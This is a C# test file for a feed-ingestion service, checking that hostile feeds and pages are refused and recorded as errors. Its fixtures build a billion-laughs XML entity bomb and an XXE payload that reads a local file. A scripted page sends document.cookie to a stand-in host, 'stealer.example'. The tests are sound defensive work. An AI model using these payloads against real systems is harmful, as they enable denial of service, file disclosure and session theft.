using System.Text;
using Microsoft.AspNetCore.Http;
using Monitoring.Ingestion.Sources;
using static Monitoring.Ingestion.Tests.Sources.FeedPollJobTests;

namespace Monitoring.Ingestion.Tests.Sources;

/// <summary>
/// Hostile or broken answers from a feed or an article page: each ends as a clear error recorded on its
/// source, and a healthy source polled right after is untouched.
/// </summary>
public sealed class FeedBadInputTests : IAsyncLifetime
{
    private const int FiftyMegabytes = 50 * 1024 * 1024;
    private static readonly byte[] PngHeader = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52];

    private LocalWebServer _server = null!;
    private PollingHarness _harness = null!;

    public static TheoryData<string, string> Feeds() => new()
    {
        { "malformed", "Not well-formed XML" },
        { "billion-laughs", "The DOCTYPE declares entity 'lol9', which expands to 3,000,000,000 characters, over the limit of 65,536: refused as an entity bomb." },
        { "huge-streamed", "over the limit of 1,048,576 bytes (Ingestion:Feeds:MaxFeedBytes); download aborted" },
        { "huge-declared", "the answer is 52,428,800 bytes, over the limit of 1,048,576 (Ingestion:Feeds:MaxFeedBytes); not downloaded" },
        { "binary", "binary content (PNG image), not a feed (served as image/png)" },
        { "html-with-scripts", "Not a feed: the document is <html>" },
        { "slow", "no complete answer from 127.0.0.1 within 1 s (Ingestion:Feeds:RequestTimeout)" },
        { "refused", "request to 127.0.0.1 failed" },
    };

    public async ValueTask InitializeAsync()
    {
        _server = await LocalWebServer.StartAsync();
        _harness = new PollingHarness(new Dictionary<string, string?>
        {
            ["Ingestion:Feeds:RequestTimeout"] = "00:00:01",
            ["Ingestion:Feeds:MaxFeedBytes"] = "1048576",
            ["Ingestion:Pages:MaxPageBytes"] = "1048576",
        });
        _server.Serve("/malformed", "<?xml version=\"1.0\"?><rss><channel><title>Broken & bad</title></channel></rss>", "application/rss+xml");
        _server.Serve("/billion-laughs", BillionLaughs(), "application/rss+xml");
        _server.Handle("/huge-streamed", context => StreamHugeAsync(context, "application/rss+xml", declareLength: false));
        _server.Handle("/huge-declared", context => StreamHugeAsync(context, "application/rss+xml", declareLength: true));
        _server.Serve("/binary", [.. PngHeader, .. new byte[4096]], "image/png");
        _server.Serve("/html-with-scripts", ScriptedPage(), "text/html");
        _server.Handle("/slow", async context =>
        {
            context.Response.ContentType = "application/rss+xml";
            await context.Response.WriteAsync("<rss><channel>", context.RequestAborted);
            await Task.Delay(TimeSpan.FromSeconds(10), context.RequestAborted);
        });
        _server.Handle("/healthy.xml", context => WriteAsync(context, Rss([Item(1, "Healthy", new string('h', 500))])));
    }

    [Theory]
    [MemberData(nameof(Feeds))]
    public async Task ABadFeed_IsRecordedOnItsSource_AndTheNextSourceIsUntouched(string path, string error)
    {
        var url = path == "refused" ? new Uri($"http://127.0.0.1:{FreePort()}/feed.xml") : _server.Url(path);
        var bad = await _harness.AddAsync(url, name: "Bad");
        var healthy = await _harness.AddAsync(_server.Url("/healthy.xml"), name: "Healthy");

        var outcome = await _harness.PollAsync(bad.Id);
        var next = await _harness.PollAsync(healthy.Id);

        var recorded = await _harness.SourceAsync(bad.Id);
        Assert.Equal(FeedPollStatus.Failed, outcome.Status);
        Assert.Contains(error, recorded.LastError, StringComparison.Ordinal);
        Assert.Equal(1, recorded.ConsecutiveFailures);
        Assert.Null(recorded.LastSuccessAt);
        Assert.Equal(_harness.Clock.Now, recorded.LastFetchAt);
        Assert.Empty(await _harness.InboxArticlesAsync(bad.Id));
        Assert.Equal(new FeedPollOutcome(FeedPollStatus.Fetched, 1, null), next);
        Assert.Null((await _harness.SourceAsync(healthy.Id)).LastError);
    }

    [Fact]
    public async Task AnExternalEntity_IsNeverRead_AndTheFeedIsRecordedAsBroken()
    {
        var secret = Path.GetTempFileName();
        await File.WriteAllTextAsync(secret, "SECRET", TestContext.Current.CancellationToken);
        try
        {
            var url = _server.Serve("/xxe", $"<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY x SYSTEM \"file://{secret}\">]><rss><channel><title>t</title><item><title>&x;</title><link>https://news.example.org/x</link></item></channel></rss>", "application/rss+xml");
            var source = await _harness.AddAsync(url);

            await _harness.PollAsync(source.Id);

            var recorded = await _harness.SourceAsync(source.Id);
            Assert.StartsWith("feed read only in part: ", recorded.LastError, StringComparison.Ordinal);
            Assert.Contains("'x'", recorded.LastError, StringComparison.Ordinal);
            Assert.DoesNotContain("SECRET", recorded.LastError, StringComparison.Ordinal);
            Assert.Empty(await _harness.InboxArticlesAsync(source.Id));
        }
        finally
        {
            File.Delete(secret);
        }
    }

    [Theory]
    [InlineData("/page-huge", "over the limit of 1,048,576 bytes (Ingestion:Pages:MaxPageBytes); download aborted")]
    [InlineData("/page-binary", "binary content (PNG image), not an HTML page")]
    [InlineData("/page-missing", "HTTP 404 Not Found")]
    public async Task ABadArticlePage_IsRecordedOnTheSource_AndTheItemKeepsItsSummary(string page, string error)
    {
        _server.Handle("/page-huge", context => StreamHugeAsync(context, "text/html", declareLength: false));
        _server.Serve("/page-binary", [.. PngHeader, .. new byte[4096]], "text/html");
        var feed = _server.Handle("/teasers.xml", context => WriteAsync(context, Rss([Item(1, "Teaser", "<p>Only a teaser.</p>", _server.Url(page))])));
        var source = await _harness.AddAsync(feed);

        var outcome = await _harness.PollAsync(source.Id);

        var recorded = await _harness.SourceAsync(source.Id);
        Assert.Equal(FeedPollStatus.Fetched, outcome.Status);
        Assert.Null(recorded.LastError);
        Assert.StartsWith(_server.Url(page).AbsoluteUri + ": ", recorded.LastPageError, StringComparison.Ordinal);
        Assert.Contains(error, recorded.LastPageError, StringComparison.Ordinal);
        Assert.Equal("<p>Only a teaser.</p>", Assert.Single(await _harness.InboxArticlesAsync(source.Id)).Html);
    }

    [Fact]
    public async Task AnArticlePageWithScripts_GivesItsTextWithoutTheScripts()
    {
        var page = _server.Serve("/scripted-article", ScriptedPage(), "text/html; charset=utf-8");
        var feed = _server.Handle("/scripted.xml", context => WriteAsync(context, Rss([Item(1, "Scripted", "Teaser.", page)])));
        var source = await _harness.AddAsync(feed);

        await _harness.PollAsync(source.Id);

        var article = Assert.Single(await _harness.InboxArticlesAsync(source.Id));
        Assert.Contains("The ministers of Serbia and Kosovo met in Brussels", article.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("document.cookie", article.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("stealer", article.Text, StringComparison.Ordinal);
        Assert.Null((await _harness.SourceAsync(source.Id)).LastPageError);
    }

    // 50 MB, without a Content-Length unless asked: the client must stop reading on its own.
    private static async Task StreamHugeAsync(HttpContext context, string contentType, bool declareLength)
    {
        context.Response.ContentType = contentType;
        if (declareLength)
        {
            context.Response.ContentLength = FiftyMegabytes;
        }

        var chunk = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("<p>padding padding padding</p>\n", 2048)));
        try
        {
            for (long sent = 0; sent < FiftyMegabytes && !context.RequestAborted.IsCancellationRequested; sent += chunk.Length)
            {
                await context.Response.Body.WriteAsync(chunk.AsMemory(0, (int)Math.Min(chunk.Length, FiftyMegabytes - sent)), context.RequestAborted);
            }
        }
        catch (Exception ex) when (ex is OperationCanceledException or IOException)
        {
            // The client hung up: what this test wants.
        }
    }

    private static string BillionLaughs()
    {
        var bomb = new StringBuilder("<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY lol \"lol\">");
        for (var i = 1; i < 10; i++)
        {
            bomb.Append(System.Globalization.CultureInfo.InvariantCulture, $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{(i == 1 ? string.Empty : i - 1)};", 10))}\">");
        }

        return bomb.Append("]><rss><channel><title>&lol9;</title></channel></rss>").ToString();
    }

    private static string ScriptedPage() => """
        <!DOCTYPE html><html lang="en"><head><title>Talks resume</title>
        <script>fetch('https://stealer.example/?c=' + document.cookie)</script></head>
        <body><article><h1>Talks resume</h1>
        <p>The ministers of Serbia and Kosovo met in Brussels on Monday to resume the dialogue facilitated by the European Union, after months of tension in the north.</p>
        <script>document.write('<p>stealer injected paragraph with document.cookie</p>')</script>
        <p>Both delegations said the meeting was constructive, though no agreement was signed and the next round has not been scheduled yet by the mediators.</p>
        <p>Diplomats in Brussels expect the talks to continue in the spring, when the parties are due to report on the implementation of earlier agreements.</p>
        </article></body></html>
        """;

    private static int FreePort()
    {
        using var listener = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0);
        listener.Start();
        return ((System.Net.IPEndPoint)listener.LocalEndpoint).Port;
    }

    public async ValueTask DisposeAsync()
    {
        await _harness.DisposeAsync();
        await _server.DisposeAsync();
    }
}
